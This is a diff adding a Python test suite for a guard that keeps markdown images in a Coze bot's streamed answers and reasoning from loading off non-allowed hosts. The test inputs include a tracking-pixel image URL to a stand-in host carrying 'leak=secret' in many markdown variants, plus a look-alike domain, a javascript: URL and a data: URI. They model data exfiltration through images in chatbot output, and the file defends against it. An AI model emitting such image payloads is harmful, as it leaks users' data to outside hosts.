@@ -1,0 +1,113 @@
+"""Images in a bot's answer load only from allowed hosts; the rest become links, however split."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from coze_answer import AnswerStream, AppendReasoning, AppendText, Replace
+from coze_answer._images import ImageGuard, host_allowed, images_guarded
+from coze_stream import AnswerCompleted, AnswerDelta, ChatCompleted, ReasoningDelta
+
+MARKDOWN = MarkdownIt("commonmark").enable("table")
+HOSTS = ("byteimg.com", "coze.cn")
+GOOD = "https://p3-bot-sign.byteimg.com/a.png"
+BAD = "http://tracker.example/px.png?leak=secret"
+
+PIECES = [
+    f"![ok]({GOOD})",
+    f"![p]({BAD})",
+    f"![p](<{BAD}>)",
+    f'![p]({BAD} "title")',
+    f"![p][r]\n\n[r]: {BAD}\n",
+    f"![p]\n\n[p]: {BAD}\n",
+    f"[![nested]({BAD})](https://example.com)",
+    f"`![code]({BAD})`",
+    f"```\n![fenced]({BAD})\n```\n",
+    f"\\![escaped]({BAD})",
+    f"\\\\![slashes]({BAD})",
+    "Wow! ",
+    "! [not] (an image)",
+    "![unfinished",
+    "text **bold** and [link](https://example.com)",
+    "\n\n",
+    "中文！",
+]
+
+
+def rendered_images(markdown: str) -> list[str]:
+    return re.findall(r'<img src="([^"]*)"', MARKDOWN.render(markdown))
+
+
+@pytest.mark.parametrize(
+    ("url", "allowed"),
+    [
+        (GOOD, True),
+        ("https://coze.cn/x.png", True),
+        ("https://evil.coze.cn.tracker.example/x.png", False),
+        ("https://notcoze.cn/x.png", False),
+        (BAD, False),
+        ("javascript:alert(1)", False),
+        ("data:image/png;base64,AA", False),
+        ("//p3-bot-sign.byteimg.com/a.png", False),
+        (f"<{GOOD}>", True),
+    ],
+)
+def test_only_http_addresses_on_allowed_hosts_pass(url, allowed):
+    assert host_allowed(url, HOSTS) is allowed
+
+
+def test_a_tracking_pixel_becomes_a_link_and_an_allowed_image_stays():
+    text = f"Look: ![p]({BAD}) and ![ok]({GOOD})."
+    guarded = images_guarded(text, HOSTS)
+    assert guarded == f"Look: [p]({BAD}) and ![ok]({GOOD})."
+    assert rendered_images(guarded) == [GOOD]
+
+
+@settings(max_examples=400, deadline=None)
+@given(
+    parts=st.lists(st.sampled_from(PIECES), min_size=1, max_size=12),
+    data=st.data(),
+)
+def test_no_image_from_another_host_is_ever_rendered_however_the_text_is_split(parts, data):
+    text = "".join(parts)
+    whole = images_guarded(text, HOSTS)
+    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=20)))
+    guard = ImageGuard(HOSTS)
+    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
+    split = "".join(guard.feed(piece) for piece in pieces) + guard.flush()
+    assert split == whole  # the same, however the stream was cut
+    assert all(src == GOOD for src in rendered_images(whole))
+    # Every allowed image of the original is still an image.
+    assert rendered_images(whole).count(GOOD) == rendered_images(text).count(GOOD)
+
+
+def test_text_without_images_is_unchanged():
+    text = "Plain! text, `![code](y)` and\n```\n![x](y)\n```\n中文！ ! [a] (b)\n"
+    assert images_guarded(text, HOSTS) == text
+
+
+def test_the_answer_model_guards_the_answer_and_the_reasoning():
+    answer = AnswerStream(frame_seconds=0, image_hosts=HOSTS)
+    changes = answer.update([ReasoningDelta(f"see ![r]({BAD})", "m")])
+    changes += answer.update([AnswerDelta(f"pixel ![p]({BAD}) ", "m")])
+    changes += answer.update([AnswerDelta(f"chart ![ok]({GOOD})", "m")])
+    changes += answer.update([ChatCompleted(None)])
+    changes += answer.finish()
+    shown = "".join(c.text for c in changes if isinstance(c, AppendText))
+    reasoning = "".join(c.text for c in changes if isinstance(c, AppendReasoning))
+    assert shown == f"pixel [p]({BAD}) chart ![ok]({GOOD})" == answer.shown
+    assert reasoning == f"see [r]({BAD})" == answer.reasoning
+    assert not any(isinstance(c, Replace) for c in changes)
+
+
+def test_coze_s_final_text_is_guarded_too():
+    answer = AnswerStream(frame_seconds=0, image_hosts=HOSTS)
+    answer.update([AnswerDelta("draft", "m"), AnswerCompleted(f"final ![p]({BAD})", "m")])
+    answer.update([ChatCompleted(None)])
+    assert answer.finish() == [Replace(f"final [p]({BAD})")]
+    assert answer.blocks == [f"final [p]({BAD})"]
